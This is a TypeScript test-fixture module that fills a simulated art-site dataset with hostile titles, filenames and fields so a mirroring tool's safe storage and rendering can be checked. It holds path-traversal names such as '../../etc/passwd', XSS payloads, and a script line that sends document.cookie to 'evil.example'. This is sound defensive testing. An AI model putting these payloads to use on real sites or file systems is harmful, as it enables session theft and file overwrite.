// Hostile data a mirror must store and show safely: titles on every dataset, and on request
// (dataset.hostileNames, dataset.hostileData, dataset.largeFiles) traversal and device names, oversized and
// script-laden fields, service quirks and deleted items (docs/service-behaviour.md#hostile-answers). None of
// it draws random numbers, so the rest of a seeded world is unchanged.
import { downloadableOwnerDeviations } from "./folders.ts";
import type { Dataset, DatasetOptions, SimDeviation } from "./model.ts";
import { deviationSlug } from "./text.ts";

/** A handful of hostile titles that a mirror must store and render safely. */
export const HOSTILE_TITLES = [
  `<script>alert("x")</script> Study`,
  "Evil \u202Egnp.exe Title",
  `Quote's "and" back\\slash`,
  "Emoji 🦊 and ünïcödé — dash",
  "   padded   title   ",
  "Zero\u200Bwidth\u200Djoiner and a very long title that keeps going well past what most listings expect to show in one line of text",
];

const LONG_TITLE = "Long title that keeps going ".repeat(11).slice(0, 300);

/**
 * Hostile names for the downloads work (dataset.hostileNames): each a title and the filename the service
 * reports for the original (`ext` is the file's real extension).
 */
export const HOSTILE_NAMES: ReadonlyArray<{ title: string; filename: (ext: string) => string }> = [
  { title: "../../etc/passwd", filename: () => "../../etc/passwd" },
  { title: "/etc/shadow", filename: (ext) => `/etc/shadow.${ext}` },
  { title: "..\\..\\Windows\\win.ini", filename: (ext) => `..\\..\\Windows\\win.${ext}` },
  { title: LONG_TITLE, filename: (ext) => `${"x".repeat(300)}.${ext}` },
  { title: "Ł".repeat(300), filename: (ext) => `${"ł".repeat(200)}.${ext}` },
  { title: "nul\u0000byte title", filename: (ext) => `nul\u0000byte.${ext}` },
  { title: "Evil \u202Egnp.exe", filename: () => "evil\u202Egnp.exe" },
  { title: "\u2066isolated\u2069 \u200Fmarks\u200E", filename: (ext) => `\u2066isolated\u2069.${ext}` },
  { title: "CON", filename: (ext) => `CON.${ext}` },
  { title: "nul.txt", filename: () => "nul.txt" },
  { title: "COM1", filename: (ext) => `com1.${ext}` },
  { title: "..", filename: () => ".." },
  { title: ".", filename: () => "." },
  { title: "", filename: () => "" },
  { title: " trailing dots and spaces... ", filename: (ext) => ` trailing.${ext}. ` },
  { title: "tab\there\nnewline\r", filename: (ext) => `tab\there.${ext}` },
  { title: "Sunset", filename: (ext) => `sunset.${ext}` },
  { title: "SUNSET", filename: (ext) => `SUNSET.${ext}` },
  { title: "Caf\u00e9", filename: (ext) => `caf\u00e9.${ext}` },
  { title: "Cafe\u0301", filename: (ext) => `cafe\u0301.${ext}` },
];

/** Hostile titles on a handful of the owner's deviations (every dataset has them). */
export function applyHostileTitles(ownerDevs: readonly SimDeviation[]): void {
  HOSTILE_TITLES.forEach((title, i) => {
    const d = ownerDevs[(i * 37 + 5) % Math.max(1, ownerDevs.length)];
    if (d) {
      d.title = title;
      d.slug = deviationSlug(title);
    }
  });
}

/** Applies the downloads extras of DatasetOptions (no random draws: the rest of the dataset is unchanged). */
export function applyDownloadExtras(dataset: Dataset, options: DatasetOptions): void {
  const downloadable = downloadableOwnerDeviations(dataset);
  for (const { index, bytes } of options.largeFiles ?? []) {
    const d = downloadable[index];
    if (!d?.image) throw new RangeError(`dataset.largeFiles: no downloadable deviation at index ${index} (there are ${downloadable.length})`);
    if (!Number.isSafeInteger(bytes) || bytes < 1) throw new RangeError(`dataset.largeFiles: bytes must be a positive integer, got ${bytes}`);
    d.image.filesize = bytes;
  }
  const renamed = new Set<string>();
  if (options.hostileNames) applyHostileNames(dataset, downloadable, renamed);
  if (options.hostileData) applyHostileData(dataset, renamed);
}

function applyHostileNames(dataset: Dataset, downloadable: SimDeviation[], renamed: Set<string>): void {
  HOSTILE_NAMES.forEach((name, i) => {
    const d = downloadable[downloadable.length - 1 - i];
    if (!d) return;
    renamed.add(d.deviationid);
    d.title = name.title;
    d.slug = deviationSlug(name.title);
    d.filename = name.filename(d.image?.ext ?? "jpg");
  });
  const gallery = dataset.galleryFolders.filter((f) => f.ownerId === dataset.ownerId);
  const collections = dataset.collectionFolders.filter((f) => f.ownerId === dataset.ownerId);
  if (gallery[1]) gallery[1].name = "../../etc";
  if (collections[1]) collections[1].name = "CON";
}

/** The script title of dataset.hostileData: escaped wherever dvault shows it. */
export const HOSTILE_SCRIPT_TITLE = `<script>alert("dvault")</script><img src=x onerror="alert(1)"> Hostile & "quoted"`;
/** The description that goes with it. */
export const HOSTILE_SCRIPT_DESCRIPTION = `<script>document.location="https://evil.example/?c="+document.cookie</script><iframe src="javascript:alert(2)"></iframe><b onmouseover="alert(3)">Look</b> &lt;script&gt;`;
export const OVERSIZED_TITLE_CHARS = 10_000;
export const OVERSIZED_DESCRIPTION_BYTES = 1_048_576;
export const OVERSIZED_TAGS = 2_000;

/**
 * A 1 MiB description (ASCII, so characters = bytes) of distinct words: some 100 000 lexemes, more than a
 * search index's tsvector holds (1 MiB). Bold every 16 words in its first half; in its second half a bare
 * `<` (never followed by a `>`) every 4 words; in its last 5 % a `<script` opening every 4 words that never
 * closes (the search parser skips everything after one, so they come last).
 */
export function oversizedDescription(bytes = OVERSIZED_DESCRIPTION_BYTES): string {
  const parts: string[] = [];
  let length = 0;
  for (let i = 0; length < bytes; i++) {
    const word = `w${i.toString(36)}qz `;
    const hostile = i % 4 === 0 ? (length > bytes * 0.95 ? "<script " : length > bytes / 2 ? "< " : "") : "";
    const part = hostile ? hostile + word : length <= bytes / 2 && i % 16 === 1 ? `<b>${word.trim()}</b> ` : word;
    parts.push(part);
    length += part.length;
  }
  return parts.join("").slice(0, bytes);
}

function applyHostileData(dataset: Dataset, renamed: ReadonlySet<string>): void {
  const live: SimDeviation[] = [];
  for (const f of dataset.galleryFolders) {
    if (f.ownerId !== dataset.ownerId) continue;
    for (const id of f.deviationIds) {
      const d = dataset.deviations.get(id);
      if (d && !d.isDeleted && !renamed.has(id) && !live.includes(d)) live.push(d);
    }
  }
  live.sort((a, b) => b.publishedTime - a.publishedTime || b.numericId - a.numericId);
  if (live.length < 6) throw new RangeError(`dataset.hostileData needs 6 live owner deviations beyond the hostile names, there are ${live.length}`);
  const [oversized, script, strings, arrays, omitted, deleted] = live as [SimDeviation, SimDeviation, SimDeviation, SimDeviation, SimDeviation, SimDeviation];
  oversized.title = "Tall tale ".repeat(OVERSIZED_TITLE_CHARS / 10);
  oversized.slug = deviationSlug(oversized.title);
  oversized.description = oversizedDescription();
  oversized.tags = Array.from({ length: OVERSIZED_TAGS }, (_, i) => `tag${i.toString(36).padStart(3, "0")}`);
  oversized.quirks = { extraFields: true };
  script.title = HOSTILE_SCRIPT_TITLE;
  script.slug = deviationSlug(script.title);
  script.description = HOSTILE_SCRIPT_DESCRIPTION;
  script.quirks = { statsAsStrings: true, extraFields: true };
  strings.quirks = { statsAsStrings: true };
  arrays.quirks = { emptyObjectsAsArrays: true };
  omitted.quirks = { omitOptional: true };
  deleted.isDeleted = true;
  const fave = dataset.collectionFolders
    .find((f) => f.ownerId === dataset.ownerId)
    ?.deviationIds.map((id) => dataset.deviations.get(id))
    .find((d) => d && !d.isDeleted);
  if (fave) fave.isDeleted = true;
  const status = dataset.statuses.find((s) => s.authorId === dataset.ownerId && !s.isDeleted);
  if (status) status.isDeleted = true;
  dataset.hostile = {
    oversized: oversized.deviationid,
    script: script.deviationid,
    statsAsStrings: strings.deviationid,
    emptyArrays: arrays.deviationid,
    omitted: omitted.deviationid,
    deleted: deleted.deviationid,
    deletedFavourite: fave?.deviationid ?? null,
    deletedStatus: status?.statusid ?? null,
  };
}
